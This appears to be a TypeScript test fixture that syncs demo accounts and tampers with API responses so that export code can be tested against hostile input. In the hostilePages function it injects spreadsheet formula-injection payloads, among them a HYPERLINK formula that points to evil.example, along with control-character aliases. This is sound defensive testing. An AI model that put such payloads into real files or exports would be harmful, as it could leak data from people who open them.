// The demo cache the export oracles read: one smart program and the TP platform, every report and
// variant, over a range reaching the unsettled days (so some values are "--"), with hostile page
// paths and aliases put into the API's answers on the way in.
import { reportsForKind } from '../../../src/shared/account-kinds'
import type { AccountSummary } from '../../../src/shared/accounts'
import type { ReportView } from '../../../src/shared/dto'
import { allVariants } from '../../../src/shared/reports'
import { cachedView } from '../../../src/main/export'
import { demoCore, type DemoCore } from '../../support/demo-core'

export const FROM = '20261015'
export const TO = '20261120'
export const APP_ID = 'demo-sim-1002'
export const TP_ID = 'demo-tp-01'

const field = (name: string) => new RegExp(`"${name}":"((?:[^"\\\\]|\\\\.)*)"`, 'g')

/** Rewrites a pages answer: formula-like paths, aliases with a leading tab or control characters. */
export function hostilePages(body: string): string {
  let paths = 0
  let aliases = 0
  return body
    .replace(field('pageName'), (_, path: string) => {
      const i = paths++
      const hostile = i % 3 === 0 ? `=HYPERLINK("http://evil.example/${path}","x")` : i % 3 === 1 ? `-1+${path}` : `@SUM(1)/${path}`
      return `"pageName":${JSON.stringify(hostile)}`
    })
    .replace(field('pageAlias'), (_, alias: string) => {
      const i = aliases++
      const hostile = i % 3 === 0 ? `\t+${alias}\u0007` : i % 3 === 1 ? `\u0001=1+1 ${alias}` : alias
      return `"pageAlias":${JSON.stringify(hostile)}`
    })
}

export interface DemoCache {
  demo: DemoCore
  accounts: AccountSummary[]
  /** Every report and variant of the catalogue, cached, by account id. */
  views: Map<string, ReportView[]>
}

/** Syncs the program and the platform (hostile pages) and answers every cached view. */
export async function syncDemoCache(dbPath = ':memory:'): Promise<DemoCache> {
  const demo = demoCore(dbPath)
  demo.network.tamper = (url, body) => (url.pathname.endsWith('getanalysisvisitpage') ? hostilePages(body) : body)
  const accounts = demo.core.accounts.list().filter((a) => a.id === APP_ID || a.id === TP_ID)
  await demo.core.sync.start({ accounts: accounts.map((a) => a.id), from: FROM, to: TO }).done
  const views = new Map<string, ReportView[]>()
  for (const account of accounts) {
    const list: ReportView[] = []
    for (const report of reportsForKind(account.kind)) {
      for (const variant of allVariants(report)) {
        const view = cachedView(demo.core, account.id, { report, variant }, FROM, TO)
        if (!view) throw new Error(`${account.id}: ${report} ${JSON.stringify(variant)} is not cached`)
        list.push(view)
      }
    }
    views.set(account.id, list)
  }
  return { demo, accounts, views }
}
